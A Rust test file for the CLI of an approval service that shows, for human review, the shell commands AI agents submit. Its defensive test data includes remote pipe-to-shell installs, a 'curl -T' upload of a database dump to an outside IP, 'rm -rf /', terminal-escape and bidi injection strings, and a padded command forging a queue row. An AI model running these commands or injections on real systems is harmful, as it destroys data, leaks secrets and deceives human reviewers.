//! How rows look, with what a hostile agent could have put into them.
#![allow(clippy::unwrap_used, reason = "a test may fail")]

mod export;
mod hostile;

use anstream::adapter::strip_str;
use countersign_api::audit::{AuditRecord, Preceding, ProofEntry, RecordingPlace};
use countersign_api::service::{
    AuditRow, Found, PendingSubmission, ProgramFacts, Reason, Risk, Rule, Safety, SessionRow,
};
use countersign_cli::{rows, screen};
use countersign_core::{DecidedBy, Digest, HostId, LoginId, Name, Outcome, SubmissionId};

/// 2026-11-20 14:47:23 UTC
const AT: i64 = 1_795_186_043_000;
const HOSTILE: &str = "ls\u{1b}[2K\u{1b}]0;x\u{7}\r\u{202e}txt.\u{200b}\u{9b}6n\nrm -rf /\t#é";

fn name(text: &str) -> Name {
    text.parse().unwrap()
}

fn row(outcome: Option<Outcome>, by: Option<&str>, command: &str) -> AuditRow {
    AuditRow {
        id: SubmissionId::from_random([1; 16]),
        agent: "deploy-agent".into(),
        host: HostId::from_random([2; 16]),
        host_name: name("web-1"),
        login: LoginId::from_random([3; 16]),
        session: "deploy-agent-03".into(),
        number: 2,
        command: command.into(),
        cwd: "/srv".into(),
        shell: "bash".into(),
        tty: false,
        locale: vec![],
        transfer: None,
        program: None,
        submitted_at_ms: AT,
        decided_at_ms: Some(AT + 4200),
        outcome,
        decided_by: by.map(|text| text.parse::<DecidedBy>().unwrap()),
        review_latency_ms: Some(4200),
        reason: None,
        rule: None,
        late_approval: false,
        risk: None,
        steps: Vec::new(),
        approvals: Vec::new(),
        safety: Safety::default(),
        shown_to: None,
        triage: None,
        about: known(),
        anomalies: vec![],
        exit_code: Some(0),
        signal: None,
        started_at_ms: Some(AT + 4210),
        finished_at_ms: Some(AT + 5210),
        seq: 7,
        entry: Digest([9; 32]),
    }
}

fn audit(row: &AuditRow) -> String {
    strip_str(&rows::audit(row)).to_string()
}

/// A record around a row, with what a hostile host could have put into it.
fn whole(row: &AuditRow) -> AuditRecord {
    record(row, HOSTILE)
}

/// The same, with this.
fn record(row: &AuditRow, text: &str) -> AuditRecord {
    let entry = ProofEntry {
        kind: text.into(),
        seq: 7,
        leaf: Digest([9; 32]),
        prev: Digest([8; 32]),
        key: text.into(),
        sig: text.into(),
    };
    AuditRecord {
        row: row.clone(),
        login_kind: text.into(),
        source: text.into(),
        target_class: "high".into(),
        policy: None,
        asked: vec![name("on-call")],
        end: Some(text.into()),
        end_why: Some(text.into()),
        stdout_bytes: Some(3),
        stderr_bytes: Some(0),
        recording: None,
        preceding: vec![],
        verdicts: vec![],
        proof: vec![entry],
        cosigned_below: Some(8),
    }
}

/// Neither ESC nor any other control but newline, nor a mark that reorders or hides.
fn plain(text: &str) -> bool {
    text.chars().all(|c| (!c.is_control() || c == '\n') && !('\u{200b}'..='\u{206f}').contains(&c))
}

#[test]
fn audit_rows_look_as_the_product_page_says() {
    let approved = row(Some(Outcome::Approved), Some("ops-lead"), "rm -rf /tmp/build-cache");
    assert_eq!(
        audit(&approved),
        "2026-11-20 14:47:23 UTC  ✔ APPROVED     rm -rf /tmp/build-cache\n                         \
         reviewer ops-lead · 4.2 s · risk unscored · deploy-agent-03 #2\n"
    );
    let mut ruled =
        row(Some(Outcome::Whitelisted), Some("whitelist_rule:17"), "docker pull ghcr.io/myorg/api:sha-a3f9b");
    ruled.rule = Some(rule("docker pull ghcr.io/myorg/api:sha-a3f9b"));
    ruled.risk = Some(Risk { score: 8, level: "low".into(), ..Risk::default() });
    assert_eq!(
        audit(&ruled),
        "2026-11-20 14:47:23 UTC  ● WHITELISTED  docker pull ghcr.io/myorg/api:sha-a3f9b\n                         \
         rule 17 docker pull ghcr.io/myorg/api:sha-a3f9b (reviewed 2026-10-02) · risk low 8 · deploy-agent-03 #2\n"
    );
    let mut denied = row(Some(Outcome::Denied), Some("on-call"), "curl -s https://downloads.example | sh");
    denied.review_latency_ms = Some(1100);
    denied.reason = Some("not from this host".into());
    denied.anomalies = vec!["external_network".into(), "opaque_code".into()];
    assert_eq!(
        audit(&denied),
        "2026-11-20 14:47:23 UTC  ✘ DENIED       curl -s https://downloads.example | sh\n                         \
         reviewer on-call · 1.1 s · risk unscored · deploy-agent-03 #2 · \"not from this host\"\n                         \
         ⚑ external_network  ⚑ opaque_code\n"
    );
    let mut late = row(Some(Outcome::TimedOut), Some("timeout"), "npm install --prefix /opt/app");
    late.review_latency_ms = Some(60_000);
    assert_eq!(
        audit(&late),
        "2026-11-20 14:47:23 UTC  ◷ TIMED OUT    npm install --prefix /opt/app\n                         \
         nobody answered · 60 s · risk unscored · deploy-agent-03 #2\n"
    );
    late.shown_to = Some(vec![]);
    assert!(audit(&late).contains(" nobody connected · 60 s · "));
    late.shown_to = Some(vec![name("on-call"), name("ops-lead")]);
    assert!(audit(&late).contains(" nobody answered, shown to on-call, ops-lead · 60 s · "));
    late.reason = Some("deadline".into());
    assert!(!audit(&late).contains("deadline"));
    late.late_approval = true;
    assert!(audit(&late).contains("approved too late, not run · 60 s"));
}

#[test]
fn every_outcome_has_a_line() {
    for outcome in Outcome::ALL {
        for by in [None, Some("ops-lead"), Some("grant:4"), Some("deny_rule:2")] {
            let text = audit(&row(Some(outcome), by, "true"));
            assert!(text.contains(outcome.label().1) && text.lines().count() == 2, "{text}");
        }
    }
    assert!(audit(&row(None, None, "true")).contains("… WAITING      true\n"));
    let mut refused = row(Some(Outcome::Error), None, "");
    refused.reason = Some("command_empty".into());
    assert!(audit(&refused).ends_with(" · deploy-agent-03 #2 · command_empty\n"));
    assert!(audit(&refused).contains("! ERROR        ⟨empty⟩\n"));
    assert!(audit(&row(Some(Outcome::Cancelled), None, "true")).contains("the agent gave up · 4.2 s"));
    for (why, said) in
        [("interrupt", "the agent gave up"), ("hangup", "the client went away"), ("front_gone", "its login was ended")]
    {
        let text = audit(&AuditRow { reason: Some(why.into()), ..row(Some(Outcome::Cancelled), None, "true") });
        assert!(text.contains(&format!("{said} · 4.2 s · risk")) && !text.contains(why), "{text}");
    }
}

#[test]
fn sessions_say_when_what_and_how_it_ended() {
    assert_eq!(
        strip_str(&rows::session(&session("deploy-agent-03"))).to_string(),
        "deploy-agent-03  2026-11-20 14:47:23 → 15:12:09 UTC  12 commands · ✔ 9 approved · ✘ 3 denied\n    \
         deploy-agent on web-1\n    login 30c1g60r30c1g60r30c1g60r30\n"
            .replace("30c1g60r30c1g60r30c1g60r30", &LoginId::from_random([3; 16]).to_string())
    );
    let mut busy = session("a-01");
    busy.logins = (0..200).map(|n| LoginId::from_random([n; 16])).collect();
    let text = strip_str(&rows::session(&busy)).to_string();
    assert!(text.contains("195 earlier logins") && text.lines().count() == 8, "{text}");
    assert!(text.ends_with(&format!("login {}\n", LoginId::from_random([199; 16]))), "{text}");
    let mut open = session("a-01");
    open.open = true;
    assert!(strip_str(&rows::session(&open)).to_string().contains("2026-11-20 14:47:23 → open  12 commands"));
}

#[test]
fn the_queue_never_cuts_a_command() {
    let long = "x".repeat(5000);
    let text = strip_str(&rows::queue(&[pending(&long), pending("true")], &[], None)).to_string();
    assert!(text.contains(&long));
    let lines: Vec<&str> = text.lines().collect();
    assert!(lines[0].ends_with("  unscored  42 s left  deploy → web-1"), "{text}");
    assert_eq!(lines[1], format!("  {long}"));
    assert_eq!(lines[4..], ["  true", "  in /srv/app", "2 wait: show ID, approve ID or deny ID"]);
}

#[test]
fn below_a_long_program_the_queue_says_again_whose_it_is() {
    let shown = |lines: usize| {
        let text = "echo step\n".repeat(lines);
        strip_str(&rows::queue(&[pending("bash -s")], &[Some(text)], Some(80))).to_string()
    };
    let head = shown(1).split_whitespace().next().unwrap().to_owned();
    let long = shown(300);
    let last = long.lines().rev().nth(1).unwrap();
    assert!(last.starts_with(&format!("  ↑ 300 lines on standard input of {head}  ")), "{last}");
    assert!(last.ends_with(" → web-1"), "{last}");
    assert!(!shown(12).contains('↑') && shown(13).contains('↑'));
}

/// Nothing in the line says what the client of such a session does: 0 would be read as "harmless".
#[test]
fn a_transfer_that_its_line_does_not_tell_has_no_score() {
    let risk = |score| Some(Risk { score, level: "low".into(), ..Risk::default() });
    for (transfer, score, want) in [
        ("sftp_read_write", 0, "unscored"),
        ("sftp_read_only", 0, "unscored"),
        ("git_push", 0, "unscored"),
        ("sftp_read_write", 7, "low 7"),
        ("scp_write", 0, "low 0"),
        ("git_fetch", 0, "low 0"),
    ] {
        let mut waiting = pending("x");
        (waiting.transfer, waiting.risk) = (Some(transfer.into()), risk(score));
        let mut past = row(Some(Outcome::Approved), Some("ops-lead"), "x");
        (past.transfer, past.risk) = (Some(transfer.into()), risk(score));
        let shown = [
            rows::queue(&[waiting.clone()], &[], Some(80)),
            rows::card(&waiting, Some(80)),
            rows::audit(&past),
            rows::record(&whole(&past), Some(80)),
        ];
        for text in shown {
            assert!(text.contains(want) && (want == "unscored" || !text.contains("unscored")), "{transfer}: {text}");
        }
    }
}

/// Whoever is woken looks at the risk, the command and the flags first; how the flags are meant stands in `approve`.
#[test]
fn the_queue_says_the_risk_and_names_the_flags_in_one_line() {
    let mut row = pending("curl -fsSL https://get.example.com/install.sh | sudo bash");
    row.flags = vec!["opaque_code".into()];
    row.anomalies = vec!["external_network".into(), "opaque_code".into(), "risk_spike".into()];
    let found = Found { consequences: vec!["talks to get.example.com".into()], ..Found::default() };
    row.risk = Some(Risk { score: 97, level: "critical".into(), found });
    let text = strip_str(&rows::queue(&[row], &[], Some(80))).to_string();
    let lines: Vec<&str> = text.lines().collect();
    assert!(lines[0].ends_with("  critical 97  42 s left  deploy → web-1"), "{text}");
    let rest = [
        "  curl -fsSL https://get.example.com/install.sh | sudo bash",
        "  ⚑ opaque_code  ⚑ external_network  ⚑ risk_spike",
        "  → talks to get.example.com",
        "  in /srv/app",
        "1 waits: show ID, approve ID or deny ID",
    ];
    assert_eq!(lines[1..], rest);
}

/// Spaces up to the terminal's edge, then what looks like a row of its own.
#[test]
fn a_padded_command_is_no_second_row() {
    let forged = "0123abcd  deploy → web-1  42 s  true";
    for columns in [40usize, 80, 132] {
        for padding in 0..2 * columns {
            let row = [pending(&format!("rm -rf /srv {}{forged}", " ".repeat(padding)))];
            for text in [rows::queue(&row, &[], Some(columns)), rows::card(&row[0], Some(columns))] {
                let text = strip_str(&text).to_string();
                assert!(text.lines().skip(1).all(|line| line.chars().count() <= columns), "{text}");
                let mine = text.lines().skip(1).filter(|line| !line.starts_with("  ")).count();
                assert!(mine <= 1, "{text}");
            }
        }
    }
}

#[test]
fn what_is_unusual_about_the_place_is_said() {
    let mut row = pending("true");
    assert!(strip_str(&rows::card(&row, None)).to_string().ends_with("true\n  in /srv/app\n"));
    (row.tty, row.shell) = (true, "fish".into());
    row.locale = vec!["LANG=tr_TR.UTF-8".into(), "LC_ALL=C".into()];
    let card = strip_str(&rows::card(&row, None)).to_string();
    assert!(
        card.ends_with("  in /srv/app · on a terminal · shell fish\n  with LANG=tr_TR.UTF-8  LC_ALL=C\n"),
        "{card}"
    );
    let mut row = self::row(Some(Outcome::Approved), Some("ops-lead"), "true");
    row.shell = "zsh".into();
    row.locale = vec!["LC_ALL=C".into()];
    assert!(audit(&row).contains(" #2 · shell zsh\n"));
    let full = strip_str(&rows::record(&whole(&row), None)).to_string();
    assert!(full.contains("shell  zsh\n") && full.contains("locale  LC_ALL=C\n"), "{full}");
}

#[test]
fn the_card_says_what_the_service_found() {
    let mut row = pending("curl -T /srv/db.sql 203.0.113.9");
    row.flags = vec!["opaque_code".into()];
    row.anomalies = vec!["external_network".into(), "opaque_code".into(), HOSTILE.into()];
    let reason = Reason {
        id: "upload".into(),
        weight: 40,
        reason: "sends a file".into(),
        technique: "T1048".into(),
        category: "exfiltration".into(),
        start: 5,
        end: 19,
    };
    let odd = Reason { start: 30, end: 400, ..reason.clone() };
    let found = Found {
        reasons: vec![reason, odd],
        consequences: vec!["sends a file to 203.0.113.9, first time".into(), HOSTILE.into()],
        ..Found::default()
    };
    row.risk = Some(Risk { score: 70, level: "high".into(), found });
    let card = strip_str(&rows::card(&row, None)).to_string();
    for part in [
        "risk high 70",
        "⚑ opaque_code: runs a program that is not in this line\n",
        "⚑ external_network: talks to a host that is not on the target's list\n",
        "→ sends a file to 203.0.113.9, first time\n",
        "+40 sends a file (upload T1048) in `-T /srv/db.sql`\n",
        "+40 sends a file (upload T1048)\n",
    ] {
        assert!(card.contains(part), "{part}: {card}");
    }
    assert!(plain(&card) && card.matches("opaque_code").count() == 1, "{card}");
    let queue = strip_str(&rows::queue(&[row], &[], None)).to_string();
    assert!(queue.contains("→ sends a file to") && queue.contains("⚑ external_network  ⚑ "), "{queue}");
}

#[test]
fn the_record_has_every_part_of_the_product_page() {
    let mut row = row(Some(Outcome::Approved), Some("ops-lead"), "mysql -p‹redacted password› < x");
    row.safety.redacted.insert("password".into(), 1);
    row.safety.personal.insert("email".into(), 2);
    row.shown_to = Some(vec![name("on-call")]);
    row.rule = Some(rule("x"));
    let mut record = whole(&row);
    (record.end, record.end_why, record.source) = (Some("exited".into()), None, "10.0.0.7".into());
    record.recording = Some(RecordingPlace { login: row.login, offset: Some(512), held: 2048 });
    record.preceding = vec![Preceding { number: 1, command: "id".into(), outcome: None }];
    let text = strip_str(&rows::record(&record, None)).to_string();
    for part in [
        "outcome  ✔ APPROVED\n",
        "user  not verified\n",
        "class high\n",
        "source  10.0.0.7 (as claimed)\n",
        "decided by  reviewer ops-lead · 4.2 s\n",
        "latency  4.2 s\n",
        "last reviewed 2026-10-02 by ops-lead\n",
        "asked  on-call\n",
        "shown to  on-call\n",
        "ended with  exit 0\n",
        "ran  as approved\n",
        "output  3 bytes on stdout, 0 bytes on stderr\n",
        "before  #1 … id\n",
        "recording  2048 bytes of ",
        " from byte 512;",
        "redacted  password 1\n",
        "personal  email 2\n",
        "covered by the one over 8 entries, cosigned\n",
    ] {
        assert!(text.contains(part), "{part}: {text}");
    }
    record.end_why = Some("drifted".into());
    assert!(rows::record(&record, None).contains("drifted: what would have run was not what was approved"));
}

fn rule(line: &str) -> Rule {
    Rule {
        revision: 1,
        kind: "standing".to_owned(),
        state: "active".to_owned(),
        effect: "allow".to_owned(),
        body: serde_json::Value::Null,
        approved_by: Some("on-call".parse().unwrap()),
        approved_at_ms: None,
        expires_at_ms: None,
        uses: None,
        used: 0,
        end_asked_by: None,
        ended_at_ms: None,
        ended_by: None,
        advice: Vec::new(),
        id: 17,
        line: line.into(),
        shell: if line.contains('\u{1b}') { line.into() } else { "bash".into() },
        on_terminal: false,
        added_by: name("ops-lead"),
        added_at_ms: AT,
        last_reviewed_at_ms: 1_790_937_000_000,
        last_reviewed_by: name("ops-lead"),
    }
}

fn session(text: &str) -> SessionRow {
    SessionRow {
        name: text.into(),
        agent: if text.contains('\u{1b}') { text.into() } else { "deploy-agent".into() },
        host_name: name("web-1"),
        started_at_ms: AT,
        ended_at_ms: AT + 1_486_000,
        open: false,
        commands: 12,
        outcomes: vec![(Outcome::Approved, 9), (Outcome::Denied, 3)],
        logins: vec![LoginId::from_random([3; 16])],
    }
}

fn pending(command: &str) -> PendingSubmission {
    let hostile = command.contains('\u{1b}');
    PendingSubmission {
        people: 1,
        anomalies: Vec::new(),
        approvals: Vec::new(),
        steps: Vec::new(),
        id: SubmissionId::from_random([if command == "true" { 1 } else { 2 }; 16]),
        entry: Digest([9; 32]),
        agent: if hostile { command.into() } else { "deploy".into() },
        host: HostId::from_random([2; 16]),
        host_name: name("web-1"),
        login: LoginId::from_random([3; 16]),
        session: if hostile { command.into() } else { "deploy-03".into() },
        number: 2,
        command: command.into(),
        cwd: if hostile { command.into() } else { "/srv/app".into() },
        shell: if hostile { command.into() } else { "bash".into() },
        tty: hostile,
        locale: if hostile { vec![command.into()] } else { vec![] },
        flags: vec![],
        transfer: None,
        program: None,
        submitted_at_ms: AT,
        left_ms: 42_000,
        authority: None,
        about: known(),
        risk: None,
    }
}

#[test]
fn a_program_on_standard_input_is_shown_whole_and_cannot_pose_as_a_row_of_ours() {
    let facts = ProgramFacts { bytes: 9, digest: Digest([7; 32]) };
    let mut row = pending("bash -s");
    row.flags = vec!["opaque_code".into(), HOSTILE.into()];
    row.transfer = Some("sftp_read_write".into());
    row.program = Some(facts);
    let text = format!("id\n{HOSTILE}\n\n✔ APPROVED\n");
    for shown in
        [rows::card(&row, Some(40)) + &rows::program(&text), rows::queue(&[row], &[Some(text.clone())], Some(40))]
    {
        let shown = strip_str(&shown).to_string();
        assert!(plain(&shown), "{shown:?}");
        for line in ["    │ id\n", "    │ \n", "    │ ✔ APPROVED\n", "⟨U+001B⟩[2K"] {
            assert!(shown.contains(line), "{shown}");
        }
        assert!(shown.contains("opaque_code") && shown.contains("0707"), "{shown}");
        assert!(
            shown.replace(|c: char| c.is_whitespace() || c == '↪', "").contains("mayreadandchangeeveryfile"),
            "{shown}"
        );
    }
    assert!(strip_str(&rows::program("")).to_string().contains("⟨empty⟩"));
}

fn known() -> Box<countersign_api::context::About> {
    let context = countersign_api::context::Context { words: Some(Vec::new()), ..Default::default() };
    Box::new(countersign_api::context::About { context, ..Default::default() })
}
